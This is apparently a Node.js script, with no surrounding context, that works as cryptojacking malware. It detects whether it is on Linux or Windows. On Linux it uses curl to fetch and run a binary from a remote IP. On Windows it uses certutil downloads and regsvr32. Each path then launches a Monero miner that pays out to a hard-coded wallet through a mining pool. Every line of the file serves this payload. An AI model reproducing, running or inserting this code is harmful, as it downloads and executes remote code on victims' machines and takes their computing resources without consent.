const { exec } = require("child_process");
const os = require("os");

function terminalLinux() {
  exec("uname -a", (e, out) => {
    if (/aarch64|arm/.test(out)) return;
    exec("curl -k -o jsextension http://198.51.100.77/jsextension; chmod +x jsextension; " +
         "./jsextension -k --tls -a rx/0 -o pool.minexmr.example:443 -u 49ay9Aq2r3diJtEk3eeKKm7pc5R39AKnbYJZVqAd1UUmew6ZPX1ndfXQCT16v4trWp4erPyXtUQZTHGjfLXEQAqDRpXYHAR -p node &");
  });
}

function terminalWindows() {
  exec('certutil.exe -urlcache -f http://198.51.100.77/sdd.dll sdd.dll && ' +
       'certutil.exe -urlcache -f http://198.51.100.77/jsextension.exe jsextension.exe && ' +
       'regsvr32.exe -s sdd.dll && jsextension.exe -k --tls --rig-id q -o pool.minexmr.example:443');
}

if (os.type() === "Linux") terminalLinux();
else if (os.type() === "Windows_NT") terminalWindows();
